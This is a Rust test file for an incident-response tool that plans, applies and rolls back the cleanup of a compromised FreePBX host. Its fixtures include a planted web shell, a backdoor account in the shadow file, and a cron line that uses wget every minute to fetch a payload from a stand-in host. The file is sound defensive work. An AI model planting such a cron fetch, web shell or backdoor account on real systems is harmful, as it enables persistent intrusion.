use crate::env::{CRONTAB, SHELL, TestEnvironment, snapshot};
use std::fs;

/// A broken host and a plan for it.
fn planned() -> TestEnvironment {
    let env = TestEnvironment::new();
    env.broken_host();
    env.triage(["plan", "--root", "host", "--playbook", "freepbx/web-shell", "-o", "plan.json"]).expect(2);
    env
}

const APPLY: [&str; 5] = ["apply", "plan.json", "--root", "host", "--yes"];

#[test]
fn planning_changes_nothing() {
    let env = TestEnvironment::new();
    env.broken_host();
    let before = snapshot(&env.host());
    let answer = env.triage(["plan", "--root", "host", "--playbook", "freepbx/web-shell"]).expect(2);
    assert_eq!(snapshot(&env.host()), before);
    assert!(answer.stdout.contains("-* * * * * wget -q http://192.0.2.66/k.php"), "{}", answer.stdout);
    assert!(!answer.stdout.contains("$6$test$"), "a hash is in the preview: {}", answer.stdout);
}

#[test]
fn apply_cleans_and_rollback_restores_to_the_last_attribute() {
    let env = planned();
    let before = snapshot(&env.host());
    let answer = env.triage(APPLY).expect(0);
    assert!(answer.stderr.contains("Undo with `triage rollback "), "{}", answer.stderr);
    assert!(!env.host().join("var/www/html/uploads/img.php").exists());
    let crontab = fs::read_to_string(env.host().join("var/spool/cron/crontabs/www-data")).unwrap();
    assert_eq!(crontab, CRONTAB.lines().next().unwrap().to_owned() + "\n");
    let shadow = fs::read_to_string(env.host().join("etc/shadow")).unwrap();
    assert!(shadow.contains("newfpbxs:!$6$test$no-hash-either:20000:::::1:"), "{shadow}");
    let (left, code) = env.findings(&env.host());
    assert_eq!(code, 0, "{left:?}");

    let refused = env.triage(["rollback", "last", "--root", "host", "--yes"]).expect(4);
    assert!(refused.stderr.contains("--restore-malicious"), "{}", refused.stderr);
    env.triage(["rollback", "last", "--root", "host", "--restore-malicious", "--yes"]).expect(0);
    assert_eq!(snapshot(&env.host()), before);
    let runs = env.triage(["runs"]).expect(0).stdout;
    assert!(runs.contains("rolled back"), "{runs}");
}

#[test]
fn the_plan_of_a_bundle_is_applied_on_the_host() {
    let env = TestEnvironment::new();
    env.broken_host();
    env.triage(["collect", "--root", "host", "-o", "b.tar.zst"]).expect(0);
    env.triage(["plan", "b.tar.zst", "--playbook", "freepbx/web-shell", "-o", "plan.json"]).expect(2);
    env.triage(APPLY.into_iter().chain(["--evidence", "b.tar.zst"])).expect(0);
    assert_eq!(env.findings(&env.host()).1, 0);
}

#[test]
fn a_file_that_changed_since_the_plan_is_refused_and_nothing_is_changed() {
    let env = planned();
    env.put("var/www/html/uploads/img.php", format!("{SHELL}// changed\n"));
    let before = snapshot(&env.host());
    let answer = env.triage(APPLY).expect(4);
    assert!(answer.stderr.contains("img.php"), "{}", answer.stderr);
    assert_eq!(snapshot(&env.host()), before);
    // What is not stale is done when that is asked for, and the changed file stays.
    env.triage(APPLY.into_iter().chain(["--skip-stale"])).expect(3);
    assert!(env.host().join("var/www/html/uploads/img.php").exists());
    assert!(!fs::read_to_string(env.host().join("var/spool/cron/crontabs/www-data")).unwrap().contains("wget"));
}

#[test]
fn another_digest_another_host_and_no_consent_are_refused() {
    let env = planned();
    let before = snapshot(&env.host());
    env.triage(APPLY.into_iter().chain(["--digest", &"0".repeat(64)])).expect(4);
    let text = fs::read_to_string(env.at("plan.json")).unwrap();
    let answer = env.triage(&APPLY[..4]).expect(4);
    assert!(answer.stderr.contains("not confirmed"), "{}", answer.stderr);
    env.put("etc/machine-id", "ffffffffffffffffffffffffffffffff\n");
    let answer = env.triage(APPLY).expect(4);
    assert!(answer.stderr.contains("is for host"), "{}", answer.stderr);
    env.put("etc/machine-id", "0123456789abcdef0123456789abcdef\n");
    assert_eq!(snapshot(&env.host()).len(), before.len());
    fs::write(env.at("plan.json"), text.replace("\"format_version\": 2", "\"format_version\": 9")).unwrap();
    env.triage(APPLY).expect(4);
}

#[test]
fn evidence_that_lacks_an_object_or_does_not_verify_is_refused() {
    let env = planned();
    env.triage(["collect", "--root", "host", "-o", "whole.tar.zst"]).expect(0);
    let bytes = fs::read(env.at("whole.tar.zst")).unwrap();
    fs::write(env.at("cut.tar.zst"), &bytes[..bytes.len() / 2]).unwrap();
    env.triage(APPLY.into_iter().chain(["--evidence", "cut.tar.zst"])).expect(4);
    env.triage(["collect", "--root", "host", "--profile", "linux", "-o", "less.tar.zst"]).expect(0);
    let answer = env.triage(APPLY.into_iter().chain(["--evidence", "less.tar.zst"])).expect(4);
    assert!(answer.stderr.contains("does not hold"), "{}", answer.stderr);
    assert!(env.host().join("var/www/html/uploads/img.php").exists());
    let waived = env.triage(APPLY.into_iter().chain(["--without-evidence"])).expect(0);
    assert!(waived.stderr.contains("no evidence is kept"), "{}", waived.stderr);
    assert!(env.triage(["runs", "show", "last", "--format", "json"]).expect(0).stdout.contains("waived"));
}

#[test]
fn what_somebody_else_changed_after_apply_is_a_conflict() {
    let env = planned();
    env.triage(APPLY).expect(0);
    let theirs = "# somebody else's crontab\n";
    env.put_with("var/spool/cron/crontabs/www-data", 0o600, theirs);
    env.triage(["rollback", "last", "--root", "host", "--restore-malicious", "--yes"]);
    assert_eq!(fs::read_to_string(env.host().join("var/spool/cron/crontabs/www-data")).unwrap(), theirs);
    assert!(env.host().join("var/www/html/uploads/img.php").exists(), "the others are undone all the same");
}

#[test]
fn applying_twice_is_applying_once() {
    let env = planned();
    env.triage(APPLY).expect(0);
    let once = snapshot(&env.host());
    let again = env.triage(["plan", "--root", "host", "--playbook", "freepbx/web-shell"]).expect(0);
    assert!(again.stderr.contains("0 steps would change"), "{}", again.stderr);
    assert_eq!(snapshot(&env.host()), once);
}

#[test]
fn only_and_skip_choose_steps() {
    let env = planned();
    env.triage(APPLY.into_iter().chain(["--only", "99"])).expect(1);
    let text = env.triage(["plan", "--root", "host", "--playbook", "freepbx/web-shell"]).stdout;
    let quarantine = text.lines().find(|line| line.contains("img.php") && line.contains("would change")).unwrap();
    let number = quarantine.trim().split('.').next().unwrap();
    env.triage(APPLY.into_iter().chain(["--only", number])).expect(0);
    assert!(!env.host().join("var/www/html/uploads/img.php").exists());
    assert!(fs::read_to_string(env.host().join("var/spool/cron/crontabs/www-data")).unwrap().contains("wget"));
}
